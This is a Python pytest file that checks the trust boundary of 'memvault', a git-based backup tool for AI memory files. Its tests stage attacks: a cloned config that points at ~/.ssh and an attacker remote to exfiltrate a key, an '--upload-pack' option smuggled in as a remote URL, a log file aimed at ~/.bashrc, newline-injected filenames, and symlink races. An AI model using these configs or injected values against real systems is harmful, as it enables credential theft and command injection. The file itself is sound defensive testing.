"""What the trust boundary guards, attacked as the issue describes (SPEC "Trust", "Promises").

Each test reproduces an attack on a real machine layout: real `git clone`, real hooks
(plain and pre-commit), the cron line run as cron runs it, real second repositories,
injected URLs, a loopback listener standing for a server that sees credentials; and hostile
input files (deep, non-UTF-8 names, symlinks and FIFOs swapped by a thread), hostile vault
contents from a remote, and killed runs.
"""
from __future__ import annotations

import json
import os
import shlex
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from remote_support import LoopbackServer
from remote_support import bare_remote
from support import MEMVAULT
from support import Project
from support import git
from support import memvault
from test_pre_commit_hooks import PRE_COMMIT
from test_pre_commit_hooks import _config as pre_commit_config
from test_pre_commit_hooks import hook_repo  # noqa: F401 -- the session's pre-commit hook repository
from trigger_support import settle

# --- the project's config, code and remotes ------------------------------------------------

FAKE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key-but-private\n-----END OPENSSH PRIVATE KEY-----\n"


def _refs(repo: Path) -> str:
    return git(repo, "for-each-ref")


def _evil_upstream(base: Path, config: str, extra: dict[str, str] | None = None) -> Path:
    """The attacker's project: a committed .memvault.yaml (and whatever else it ships)."""
    upstream = base / "evil-upstream"
    upstream.mkdir()
    git(upstream, "init", "-q", "-b", "main")
    (upstream / ".memvault.yaml").write_text(config)
    (upstream / "memory.json").write_text('{"looks": "harmless"}\n')
    for rel, text in (extra or {}).items():
        (upstream / rel).parent.mkdir(parents=True, exist_ok=True)
        (upstream / rel).write_text(text)
    git(upstream, "add", "-A")
    git(upstream, "commit", "-q", "-m", "a helpful project")
    return upstream


def _private_key(home: Path) -> Path:
    ssh = home / ".ssh"
    ssh.mkdir(mode=0o700, exist_ok=True)
    key = ssh / "id_ed25519"
    key.write_text(FAKE_KEY)
    return key


def _data_vaults(home: Path) -> list[Path]:
    vaults = home / ".local" / "share" / "memvault" / "vaults"
    return sorted(vaults.iterdir()) if vaults.exists() else []


def test_a_cloned_config_cannot_send_the_users_key_anywhere(tmp_path: Path, isolated_home: Path) -> None:
    key = _private_key(isolated_home)
    attacker = bare_remote(tmp_path, "attacker.git")
    upstream = _evil_upstream(tmp_path, f'version: 1\nsource_dir: "~/.ssh"\nfiles: ["*"]\n'
                                        f'vault:\n  remote: {json.dumps(str(attacker))}\n')
    victim = tmp_path / "victim"
    git(tmp_path, "clone", "-q", str(upstream), str(victim))
    for args in (("sync",), ("sync", "--quiet"), ("verify",), ("install-hooks",)):
        proc = memvault(*args, cwd=victim)
        assert proc.returncode == 2, (args, proc.stdout, proc.stderr)
        assert "memvault allow" in proc.stderr and "vault.remote" in proc.stderr and "source_dir" in proc.stderr
    hook = memvault("hook", "post-checkout", cwd=victim)
    assert hook.returncode == 0 and "memvault allow" in hook.stderr
    assert _refs(attacker) == ""  # nothing pushed
    assert _data_vaults(isolated_home) == []  # nothing copied: no vault at all
    assert key.read_text() == FAKE_KEY


def test_a_global_hooks_path_runs_nothing_a_clone_brings(tmp_path: Path, isolated_home: Path) -> None:
    key = _private_key(isolated_home)
    shared_hooks = isolated_home / "git-hooks"
    with open(isolated_home / ".gitconfig", "a") as f:
        f.write(f"[core]\n\thooksPath = {shared_hooks}\n")
    own = tmp_path / "own"
    own.mkdir()
    git(own, "init", "-q", "-b", "main")
    proc = memvault("install-hooks", cwd=own)
    assert proc.returncode == 0, proc.stderr
    assert "EVERY git repository on this machine" in proc.stderr  # said plainly
    assert (shared_hooks / "post-checkout").exists()

    attacker = bare_remote(tmp_path, "attacker.git")
    upstream = _evil_upstream(tmp_path, f'version: 1\nsource_dir: "~/.ssh"\nfiles: ["*"]\n'
                                        f'vault:\n  remote: {json.dumps(str(attacker))}\n')
    victim = tmp_path / "victim"
    cloned = subprocess.run(["git", "clone", str(upstream), str(victim)], capture_output=True, text=True)
    assert cloned.returncode == 0, cloned.stderr
    assert "memvault allow" in cloned.stderr  # the user sees why nothing happened
    for vault in _data_vaults(isolated_home):
        settle(vault)
    assert _refs(attacker) == ""
    assert _data_vaults(isolated_home) == []
    assert key.read_text() == FAKE_KEY


def _project_with_code(tmp_path: Path, marker: Path) -> Project:
    """A project whose repository ships a `memvault_hooks/` package that leaves a marker."""
    root = tmp_path / "project"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "memvault_hooks").mkdir()
    (root / "memvault_hooks" / "__init__.py").write_text(
        f"open({str(marker)!r}, 'a').write('imported from the project\\n')\n")
    (root / "memory.json").write_text('{"n": 0}\n')
    vault = tmp_path / "vault"
    (root / ".memvault.yaml").write_text(f"version: 1\nvault:\n  path: {vault}\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    return Project(root, vault)


def test_project_code_never_runs_from_plain_hooks_pulls_and_cron(tmp_path: Path) -> None:
    marker = tmp_path / "MARKER"
    project = _project_with_code(tmp_path, marker)
    # memvault itself is started from elsewhere here: this test's harness runs `python -m`
    proc = memvault("-C", str(project.root), "install-hooks", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    project.write("memory.json", '{"n": 1}\n')
    git(project.root, "commit", "-q", "--allow-empty", "-m", "commit")
    settle(project.vault)
    assert "1" in (project.stored / "memory.json").read_text()  # the hook really ran

    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(project.root), str(other))
    (other / "x.txt").write_text("x\n")
    git(other, "add", "x.txt")
    git(other, "commit", "-q", "-m", "upstream work")
    project.write("memory.json", '{"n": 2}\n')
    git(project.root, "pull", "-q", "--no-rebase", str(other), "main")
    settle(project.vault)
    assert "2" in (project.stored / "memory.json").read_text()

    from memvault_hooks import config
    from memvault_hooks.commands import cron

    cfg = config.load(str(project.root))
    line = cron.entry(cfg, "* * * * *")
    command = line.split(" ", 5)[5]  # as cron runs it: the rest of the line, by sh, in the home folder
    project.write("memory.json", '{"n": 3}\n')
    proc = subprocess.run(["sh", "-c", command], cwd=project.root, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert "3" in (project.stored / "memory.json").read_text()
    assert not marker.exists(), marker.read_text()


def test_project_code_never_runs_through_pre_commit(tmp_path: Path, hook_repo: tuple[str, str, str],  # noqa: F811
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PRE_COMMIT_HOME", hook_repo[2])
    marker = tmp_path / "MARKER"
    project = _project_with_code(tmp_path, marker)
    (project.root / ".pre-commit-config.yaml").write_text(pre_commit_config(hook_repo[0], hook_repo[1]))
    git(project.root, "add", ".pre-commit-config.yaml")
    git(project.root, "commit", "-q", "-m", "pre-commit")
    proc = subprocess.run([*PRE_COMMIT, "install"], cwd=project.root, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    project.write("memory.json", '{"n": 5}\n')
    git(project.root, "commit", "-q", "--allow-empty", "-m", "commit")
    settle(project.vault)
    assert "5" in (project.stored / "memory.json").read_text()
    assert not marker.exists()


def test_pre_commit_shows_the_line_on_commit_and_checkout(project: Project, tmp_path: Path,
                                                          hook_repo: tuple[str, str, str],  # noqa: F811
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PRE_COMMIT_HOME", hook_repo[2])
    remote = bare_remote(tmp_path, "attacker.git")
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  remote: {json.dumps(str(remote))}\n",
                   allow=False)
    (project.root / ".pre-commit-config.yaml").write_text(pre_commit_config(hook_repo[0], hook_repo[1]))
    git(project.root, "add", "-A")
    git(project.root, "commit", "-q", "-m", "pre-commit and a remote")
    assert subprocess.run([*PRE_COMMIT, "install"], cwd=project.root, capture_output=True).returncode == 0
    head = git(project.root, "rev-parse", "HEAD")
    proc = subprocess.run(["git", "commit", "--allow-empty", "-m", "next"], cwd=project.root,
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr  # post-commit's status never reaches git
    assert "memvault allow" in proc.stdout + proc.stderr, (proc.stdout, proc.stderr)
    assert git(project.root, "rev-parse", "HEAD") != head
    proc = subprocess.run(["git", "checkout", "-b", "side"], cwd=project.root, capture_output=True, text=True)
    assert "memvault allow" in proc.stdout + proc.stderr, (proc.stdout, proc.stderr)
    # git passes post-checkout's status on as its own (1 here), but the checkout is done
    assert git(project.root, "branch", "--show-current").strip() == "side"
    assert _refs(remote) == "" and not project.vault.exists()


def _snapshot(repo: Path) -> tuple[str, str, bytes, str, list[str]]:
    return (git(repo, "rev-parse", "HEAD"), git(repo, "status", "--porcelain=v1", "--untracked-files=all"),
            (repo / ".git" / "index").read_bytes(), git(repo, "config", "--list", "--local"),
            sorted(str(p.relative_to(repo)) for p in repo.rglob("*") if ".git" not in p.parts))


def test_vault_path_never_takes_over_another_repository(project: Project, tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    git(work, "init", "-q", "-b", "main")
    (work / "code.py").write_text("print('committed')\n")
    git(work, "add", "code.py")
    git(work, "commit", "-q", "-m", "private history")
    (work / "code.py").write_text("print('uncommitted work')\n")
    (work / "staged.txt").write_text("staged\n")
    git(work, "add", "staged.txt")
    (work / "untracked.txt").write_text("untracked\n")
    before = _snapshot(work)
    project.config(f"version: 1\nvault:\n  path: {work}\n")
    for args in (("sync",), ("restore",), ("log",), ("verify",), ("init",)):
        proc = project.run(*args)
        assert proc.returncode == 1, (args, proc.stdout, proc.stderr)
        assert "did not create" in proc.stderr, args
    assert project.run("hook", "post-commit").returncode == 0
    status = project.run("status", "--json")
    assert status.returncode == 1 and "did not create" in json.loads(status.stdout)["problems"][0]
    assert _snapshot(work) == before
    assert (work / "code.py").read_text() == "print('uncommitted work')\n"
    assert not (work / ".memvault.lock").exists() and not (work / ".last_sync").exists()
    assert not (work / ".memvault-pending").exists()

    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine\n")
    project.config(f"version: 1\nvault:\n  path: {folder}\n")
    proc = project.sync()
    assert proc.returncode == 1 and "not empty" in proc.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]


def test_a_vault_made_by_the_previous_release_is_still_used(project: Project) -> None:
    assert project.sync().returncode == 0
    git(project.vault, "config", "--unset", "memvault.vault")  # as the previous release left it
    project.write("memory.json", '{"after": "upgrade"}\n')
    proc = project.sync()
    assert proc.returncode == 0, proc.stderr
    assert git(project.vault, "config", "--get", "memvault.vault").strip() == "true"


INJECTED = "--upload-pack=touch {marker};:"


def test_a_remote_is_never_read_as_an_option(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "MARKER"
    remote = INJECTED.format(marker=marker)
    assert project.sync().returncode == 0
    (project.root / ".memvault.yaml").write_text(f"version: 1\nvault:\n  path: {project.vault}\n"
                                                 f"  remote: {json.dumps(remote)}\n")
    for args in (("verify",), ("sync",), ("allow",)):
        proc = project.run(*args)
        assert proc.returncode == 2 and "vault.remote" in proc.stderr and "Fix:" in proc.stderr, (args, proc.stderr)
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    git(fresh, "init", "-q")
    proc = memvault("init", "--vault", str(tmp_path / "v2"), f"--remote={remote}", cwd=fresh)
    assert proc.returncode == 2 and not (fresh / ".memvault.yaml").exists()
    proc = memvault("recover", f"--from={remote}", cwd=fresh)
    assert proc.returncode == 2
    assert not marker.exists()


def test_a_remote_inside_the_project_is_a_config_error(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "MARKER"
    inner = project.root / "vault-remote.git"
    git(project.root, "init", "-q", "--bare", str(inner))
    hook = inner / "hooks" / "pre-receive"
    hook.write_text(f"#!/bin/sh\ntouch {shlex.quote(str(marker))}\n")
    hook.chmod(0o755)
    for value in ("vault-remote.git", str(inner)):
        (project.root / ".memvault.yaml").write_text(f"version: 1\nvault:\n  path: {project.vault}\n"
                                                     f"  remote: {json.dumps(value)}\n")
        for args in (("allow",), ("sync",)):
            proc = project.run(*args)
            assert proc.returncode == 2, (args, proc.stderr)
            assert "inside the project" in proc.stderr and "vault.remote" in proc.stderr
    assert not marker.exists()


def _files_under(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()} if folder.exists() else set()


def test_every_command_waits_for_allow_says_why_and_writes_nothing(project: Project, tmp_path: Path,
                                                                    isolated_home: Path) -> None:
    """SPEC "Trust": exit 2 with the line (status: exit 1, the line in problems; hook: exit
    0, the line on stderr); no vault, lock, state or log file appears; no remote is contacted."""
    remote = bare_remote(tmp_path, "attacker.git")
    log = isolated_home / "memvault-run.log"
    project.config(f"version: 1\nlog_file: {log}\nvault:\n  path: {project.vault}\n"
                   f"  remote: {json.dumps(str(remote))}\n", allow=False)
    before = _files_under(isolated_home)
    out = tmp_path / "out"
    for args in (["sync"], ["sync", "--quiet"], ["restore"], ["restore", "--to", str(out)],
                 ["recover", "--from", str(remote)], ["verify"], ["verify", "--json"], ["log"], ["log", "--json"],
                 ["show", "memory.json"], ["diff"], ["cron", "install"], ["install-hooks"]):
        proc = project.run(*args)
        assert proc.returncode == 2, (args, proc.stdout, proc.stderr)
        assert "memvault allow" in proc.stderr and "vault.remote, log_file" in proc.stderr, (args, proc.stderr)
        assert "Traceback" not in proc.stderr
    for args in (["status"], ["status", "--json"]):
        proc = project.run(*args)
        assert proc.returncode == 1, (args, proc.stdout, proc.stderr)
        assert "memvault allow" in proc.stdout + proc.stderr
    status = json.loads(project.run("status", "--json").stdout)
    assert status["ok"] is False and "memvault allow" in status["problems"][0]
    for stage in ("post-commit", "post-checkout", "post-merge", "post-rewrite"):
        hook = project.run("hook", stage)
        assert hook.returncode == 0 and "memvault allow" in hook.stderr, (stage, hook.stderr)
    assert not project.vault.exists() and not log.exists() and not out.exists()
    assert not (project.root / ".git" / "hooks" / "post-commit").exists()
    assert _refs(remote) == ""
    written = _files_under(isolated_home) - before
    # no state, lock or log: only the hook's parsed copy of the config (a cache, read back
    # with the rule applied: test_trust's test_a_hook_cache_written_before_the_rule_is_not_used)
    assert all(p.startswith(".cache/memvault/config-") for p in written), written
    allowed = project.run("allow")
    assert allowed.returncode == 0 and str(remote) in allowed.stdout and str(log) in allowed.stdout


def test_plain_hooks_and_the_cron_line_say_why_after_a_pull_brings_a_remote(project: Project,
                                                                          tmp_path: Path) -> None:
    """The routes a user does not type: each shows (or logs where cron's output goes) the line."""
    from memvault_hooks import config
    from memvault_hooks.commands import cron

    assert project.run("install-hooks").returncode == 0
    git(project.root, "add", "-A")
    git(project.root, "commit", "-q", "-m", "memory")
    settle(project.vault)
    line = cron.entry(config.load(str(project.root)), "* * * * *")
    vault_head = git(project.vault, "rev-parse", "HEAD")
    remote = bare_remote(tmp_path, "attacker.git")
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  remote: {json.dumps(str(remote))}\n",
                   allow=False)
    project.write("memory.json", '{"changed": true}\n')
    routes = {
        "commit": ["commit", "-a", "-m", "a remote arrives"],
        "rewrite": ["commit", "--amend", "-m", "amended"],
        "checkout": ["checkout", "-b", "side"],
    }
    for route, args in routes.items():
        proc = subprocess.run(["git", *args], cwd=project.root, capture_output=True, text=True)
        assert proc.returncode == 0, (route, proc.stderr)
        assert "memvault allow" in proc.stderr, (route, proc.stderr)
    (project.root / "side.txt").write_text("side\n")
    git(project.root, "add", "side.txt")
    git(project.root, "commit", "-q", "-m", "side work")
    git(project.root, "checkout", "-q", "main")
    proc = subprocess.run(["git", "merge", "--no-ff", "-m", "merge", "side"], cwd=project.root,
                          capture_output=True, text=True)
    assert proc.returncode == 0 and "memvault allow" in proc.stderr, ("merge", proc.stderr)
    command = line.split(" ", 5)[5]  # as cron runs it: output goes to the log file baked into the line
    cron_log = command.rsplit(">>", 1)[1].split()[0]
    ran = subprocess.run(["sh", "-c", command], cwd=project.root, capture_output=True, text=True)
    assert ran.returncode != 0
    assert "memvault allow" in Path(shlex.split(cron_log)[0]).read_text()
    settle(project.vault)
    assert git(project.vault, "rev-parse", "HEAD") == vault_head  # nothing backed up
    assert _refs(remote) == ""


def test_a_vault_path_inside_the_project_is_a_config_error(project: Project) -> None:
    project.write("mem/memory.json", '{"n": 1}\n')
    for inside in ("backups/vault", ".git/memvault-vault", str(project.root / "elsewhere")):
        project.config(f"version: 1\nsource_dir: mem\nvault:\n  path: {inside}\n", allow=False)
        for args in (["sync"], ["status"], ["allow"]):
            proc = project.run(*args)
            assert proc.returncode == 2, (inside, args, proc.stdout, proc.stderr)
            assert "vault.path" in proc.stderr and "inside the project" in proc.stderr, proc.stderr
    assert not (project.root / "backups").exists() and not (project.root / "elsewhere").exists()
    assert not (project.root / ".git" / "memvault-vault").exists()


def test_log_file_outside_waits_for_allow(project: Project, isolated_home: Path) -> None:
    bashrc = isolated_home / ".bashrc"
    bashrc.write_text("# the user's shell\n")
    (project.root / ".memvault.yaml").write_text(f"version: 1\nlog_file: ~/.bashrc\nvault:\n  path: {project.vault}\n")
    project.write("memory.json", '{"n": 1}\n')
    assert project.sync().returncode == 2
    assert project.run("hook", "post-commit").returncode == 0
    assert bashrc.read_text() == "# the user's shell\n"
    assert not project.vault.exists()
    allowed = project.run("allow")
    assert str(bashrc) in allowed.stdout  # shown in words before anything is written there
    assert project.sync().returncode == 0
    assert "sync" in bashrc.read_text()  # once allowed, it is the user's choice


def test_credentials_in_a_url_never_show(project: Project, tmp_path: Path, isolated_home: Path) -> None:
    token = "ghp_Sup3rSecretTokenValue0123456789"
    server = LoopbackServer(b"")  # accepts, reads, closes: no TLS, no git
    try:
        url = f"https://alice:{token}@127.0.0.1:{server.port}/vault.git"
        project.config(f"version: 1\nvault:\n  path: {project.vault}\n  remote: {json.dumps(url)}\n"
                       f"  timeout: 10\n")
        outputs = [project.run("allow")]
        outputs.append(project.sync())
        assert outputs[-1].returncode == 1  # the push fails, the backup is kept
        assert (project.stored / "memory.json").exists()
        outputs.append(project.run("status"))
        outputs.append(project.run("status", "--json"))
        outputs.append(project.run("verify"))
        outputs.append(project.run("verify", "--json"))
        fresh = tmp_path / "fresh"
        fresh.mkdir()
        git(fresh, "init", "-q")
        outputs.append(memvault("init", "--vault", str(tmp_path / "v2"), "--remote", url, cwd=fresh))
        outputs.append(memvault("recover", "--from", url, cwd=fresh))
        outputs.append(project.run("restore", "--rev", "HEAD", "--dry-run"))
        for args in (["log"], ["log", "--json"], ["diff"], ["show", "memory.json"], ["cron", "status"],
                     ["allow"], ["sync", "--quiet"]):
            outputs.append(project.run(*args))
    finally:
        server.close()
    assert server.requests > 0  # git really tried the URL
    said = "".join(p.stdout + p.stderr for p in outputs)
    assert "alice:***@127.0.0.1" in said
    assert token not in said
    logged = [p for p in (isolated_home / ".local" / "state").rglob("*") if p.is_file()
              and "allowed" not in p.parts]
    assert any(p.name == "sync.log" for p in logged) and any(p.name == "sync.err" for p in logged)
    for path in logged:
        assert token not in path.read_text(errors="replace"), path
    for vault in (project.vault, tmp_path / "v2"):
        if not vault.exists():
            continue
        reflog = git(vault, "log", "-g", "--all", "--format=%gs") if git(vault, "for-each-ref") else ""
        assert token not in reflog
        for path in (vault / ".git" / "logs").rglob("*"):
            if path.is_file():
                assert token not in path.read_text(errors="replace"), path



def test_fetch_writes_no_url_into_the_reflog(project: Project, tmp_path: Path) -> None:
    from memvault_hooks import remote
    from memvault_hooks.vault import Vault

    origin = bare_remote(tmp_path, "remote.git")
    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  remote: {json.dumps(str(origin))}\n")
    assert project.sync().returncode == 0
    git(origin, "update-ref", "refs/heads/other", "main")
    vault = Vault(str(project.vault), "rAgentShared", "other")
    remote.fetch(vault, str(origin), timeout=20)  # as a sync fetches when the remote moved on
    fetched = git(project.vault, "reflog", "show", "--format=%gs", "refs/remotes/origin/other")
    assert fetched.strip() and str(origin) not in fetched, fetched  # credentials would be in that URL



# --- hostile memory files, vault contents and killed runs (issue 10, points 5-8) ----------

def _files_status(project: Project) -> dict:  # type: ignore[type-arg]
    proc = project.run("status", "--json")
    return json.loads(proc.stdout)  # type: ignore[no-any-return]


def _files_error_log(project: Project) -> str:
    found = list(Path(os.environ["XDG_STATE_HOME"]).rglob("*err*"))
    return "".join(p.read_text(errors="replace") for p in found if p.is_file())


# -- point 5: one bad file never stops the others ------------------------------------------

def test_deep_json_of_2kb_is_reported_and_the_others_backed_up(project: Project) -> None:
    project.write("memory.json", "[" * 990 + "]" * 990)
    project.write("gpt4o_memories.json", json.dumps({"good": True}))
    proc = project.sync()
    assert proc.returncode == 1, proc.stderr
    assert "RecursionError" not in proc.stderr and "Traceback" not in proc.stderr
    assert "too deeply nested" in proc.stderr
    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"good": True}
    assert not (project.stored / "memory.json").exists()
    status = _files_status(project)
    assert status["ok"] is False
    assert "too deeply nested" in str(status["last_error"]) or any(
        "too deeply nested" in p for p in status["problems"])
    assert "too deeply nested" in _files_error_log(project)


def test_deep_jsonl_line_is_reported(project: Project) -> None:
    project.config(f"version: 1\nfiles: [memory.jsonl, memory.json]\nvault:\n  path: {project.vault}\n")
    project.write("memory.jsonl", '{"a": 1}\n' + "[" * 990 + "]" * 990 + "\n")
    proc = project.sync()
    assert proc.returncode == 1
    assert "too deeply nested" in proc.stderr and "Traceback" not in proc.stderr
    assert (project.stored / "memory.json").exists()


_FILES_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))
from memvault_hooks import formats
print(formats.problem(sys.argv[1], sys.argv[2]))
"""


@pytest.mark.parametrize("name", ["deep.json", "deep.jsonl"])
def test_three_mb_nested_a_million_and_a_half_levels_fits_in_128_mb(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"[" * 1_500_000 + b"]" * 1_500_000)
    kind = "json" if name.endswith(".json") else "jsonl"
    proc = subprocess.run([sys.executable, "-c", _FILES_LIMITED, str(path), kind],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "too deeply nested" in proc.stdout


def test_deep_json_sync_under_128_mb(project: Project, tmp_path: Path) -> None:
    project.write("memory.json", b"[" * 1_500_000 + b"]" * 1_500_000)
    project.write("gpt4o_memories.json", json.dumps({"good": 1}))
    code = ("import resource, runpy, sys\n"
            "resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))\n"
            "sys.argv = ['memvault', 'sync']\n"
            "runpy.run_module('memvault_hooks', run_name='__main__')\n")
    proc = subprocess.run([sys.executable, "-c", code], cwd=project.root, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 1, proc.stderr
    assert "too deeply nested" in proc.stderr and "MemoryError" not in proc.stderr
    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"good": 1}


def _files_huge(path: Path, head: bytes, middle: bytes, tail: bytes, mb: int) -> None:
    with open(path, "wb") as f:
        f.write(head)
        for _ in range(mb):
            f.write(middle * ((1 << 20) // len(middle)))
        f.write(tail)


_FILES_HUGE = {  # one token of 200 MB: the parser would hold it whole (yajl's C backend crashed)
    "string.json": (b'{"note": "', b"x", b'"}\n', "json"),
    "escaped.json": (b'{"note": "', b'\\u00e9\\"', b'"}\n', "json"),
    "number.json": (b'{"n": 1', b"1", b'}\n', "json"),
    "line.jsonl": (b'{"first": 1}\n["', b"y", b'"]\n{"last": 2}\n', "jsonl"),
    "bad.json": (b'{"note": "', b"x", b'\x01"}\n', "json"),
    "bad.jsonl": (b'{"first": 1}\n["', b"y", b'\\q"]\n', "jsonl"),
}


@pytest.mark.parametrize("name", sorted(_FILES_HUGE))
def test_one_huge_token_is_checked_in_128_mb(tmp_path: Path, name: str) -> None:
    head, middle, tail, kind = _FILES_HUGE[name]
    path = tmp_path / name
    _files_huge(path, head, middle, tail, 200)
    proc = subprocess.run([sys.executable, "-c", _FILES_LIMITED, str(path), kind],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr[-2000:]
    if name.startswith("bad"):
        assert "invalid JSON" in proc.stdout and ("control character" in proc.stdout
                                                   or "escape" in proc.stdout), proc.stdout
    else:
        assert proc.stdout.strip() == "None", proc.stdout


def test_a_huge_string_among_memory_files_is_backed_up_by_a_sync_under_128_mb(project: Project) -> None:
    _files_huge(project.root / "memory.json", b'{"note": "', b"z", b'"}\n', 150)
    project.write("gpt4o_memories.json", json.dumps({"good": 1}))
    project.write("claude_opus_memories.json", "[" + "9" * 5000 + "]")  # past int()'s 4300 digits
    code = ("import resource, runpy, sys\n"
            "resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))\n"
            "sys.argv = ['memvault', 'sync']\n"
            "runpy.run_module('memvault_hooks', run_name='__main__')\n")
    proc = subprocess.run([sys.executable, "-c", code], cwd=project.root, capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert (project.stored / "memory.json").stat().st_size == (project.root / "memory.json").stat().st_size
    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"good": 1}
    assert (project.stored / "claude_opus_memories.json").read_text() == "[" + "9" * 5000 + "]"


def test_non_utf8_file_name_beside_a_good_file(project: Project) -> None:
    project.config(f"version: 1\nfiles: ['*.json']\nvault:\n  path: {project.vault}\n")
    bad = os.path.join(os.fsencode(project.root), b"notes-\xe9\xff.json")
    with open(bad, "wb") as f:
        f.write(b'{"latin1": true}')
    project.write("memory.json", json.dumps({"good": 2}))
    proc = project.sync()
    assert "Traceback" not in proc.stderr and "UnicodeEncodeError" not in proc.stderr
    assert proc.returncode == 0, proc.stderr
    assert json.loads((project.stored / "memory.json").read_text()) == {"good": 2}
    stored = os.path.join(os.fsencode(project.stored), b"notes-\xe9\xff.json")
    with open(stored, "rb") as f:
        assert f.read() == b'{"latin1": true}'
    body = git(project.vault, "log", "-1", "--format=%B")
    assert "notes-\\351\\377.json" in body        # git-style C quoting
    # a second run has nothing to do; log and status still work
    again = project.sync()
    assert again.returncode == 0, again.stderr
    log = project.run("log", "--json")
    assert log.returncode == 0, log.stderr
    assert _files_status(project)["ok"] is True


def test_file_name_with_newline_is_quoted_in_log_and_commit(project: Project) -> None:
    project.config(f"version: 1\nfiles: ['*.json']\nvault:\n  path: {project.vault}\n")
    project.write("evil\nmodified: .bashrc.json", "{}")
    proc = project.sync()
    assert proc.returncode == 0, proc.stderr
    body = git(project.vault, "log", "-1", "--format=%B")
    assert "\nmodified: .bashrc.json" not in body
    assert '"evil\\nmodified: .bashrc.json"' in body
    logs = "".join(p.read_text() for p in Path(os.environ["XDG_STATE_HOME"]).rglob("*.log"))
    assert "\nmodified: .bashrc.json" not in logs
    listed = json.loads(project.run("log", "--json").stdout)
    assert listed[0]["files"][0]["path"] == "evil\nmodified: .bashrc.json"


# -- point 6: race-free reads --------------------------------------------------------------

def test_symlink_and_fifo_swapped_while_syncs_run(project: Project, tmp_path: Path) -> None:
    secret = tmp_path / "outside" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text('{"secret": "PRIVATE-KEY-MATERIAL"}')
    project.write("inside.json", json.dumps({"inside": True}))
    project.config(f"version: 1\nfiles: [memory.json, gpt4o_memories.json]\nvault:\n  path: {project.vault}\n")
    target = project.root / "memory.json"
    stop = threading.Event()

    def swap() -> None:
        tmp = project.root / "memory.json.swap"
        while not stop.is_set():
            for make in (lambda: os.symlink("inside.json", tmp),
                         lambda: os.symlink(str(secret), tmp),
                         lambda: os.mkfifo(tmp),
                         lambda: tmp.write_text('{"plain": 1}')):
                try:
                    make()
                    os.replace(tmp, target)
                except OSError:
                    pass
                time.sleep(0.0001)

    swapper = threading.Thread(target=swap, daemon=True)
    swapper.start()
    codes = []
    try:
        for i in range(12):
            project.write("gpt4o_memories.json", json.dumps({"round": i}))
            proc = subprocess.run([*MEMVAULT, "sync"], cwd=project.root, capture_output=True,
                                  text=True, timeout=60)            # a hang fails here
            assert "Traceback" not in proc.stderr, proc.stderr
            codes.append(proc.returncode)
    finally:
        stop.set()
        swapper.join(5)
    assert set(codes) <= {0, 1}
    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"round": 11}
    for sha in git(project.vault, "rev-list", "--all").split():
        tree = git(project.vault, "ls-tree", "-r", sha)
        for line in tree.splitlines():
            blob = line.split()[2]
            assert "PRIVATE-KEY-MATERIAL" not in git(project.vault, "cat-file", "-p", blob)


def test_fifo_among_memory_files_is_reported_and_never_blocks(project: Project) -> None:
    (project.root / "memory.json").unlink()
    os.mkfifo(project.root / "memory.json")
    proc = subprocess.run([*MEMVAULT, "sync"], cwd=project.root, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1, proc.stderr
    assert "FIFO" in proc.stderr
    assert (project.stored / "gpt4o_memories.json").exists()
    assert "FIFO" in _files_error_log(project)
    for args in (["status", "--json"], ["verify"], ["diff"], ["sync"]):  # none of them blocks on it
        proc = subprocess.run([*MEMVAULT, *args], cwd=project.root, capture_output=True, text=True, timeout=60)
        assert "Traceback" not in proc.stderr, (args, proc.stderr)
    assert "FIFO" in json.loads(subprocess.run([*MEMVAULT, "status", "--json"], cwd=project.root,
                                               capture_output=True, text=True, timeout=60).stdout)["last_error"]["message"]


def test_a_device_or_unreadable_memory_file_is_reported_and_never_blocks(project: Project) -> None:
    """SPEC "Promises": unreadable, or a device (/dev/zero's numbers: read, it never ends)."""
    (project.root / "memory.json").unlink()
    if os.geteuid() == 0:   # root reads any file: a device node stands for the bad file
        os.mknod(project.root / "memory.json", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
        said = "device"
    else:
        project.write("memory.json", '{"n": 1}\n').chmod(0)
        said = "Permission denied"
    proc = subprocess.run([*MEMVAULT, "sync"], cwd=project.root, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and said in proc.stderr, proc.stderr
    assert (project.stored / "gpt4o_memories.json").exists()
    assert said in _files_error_log(project)
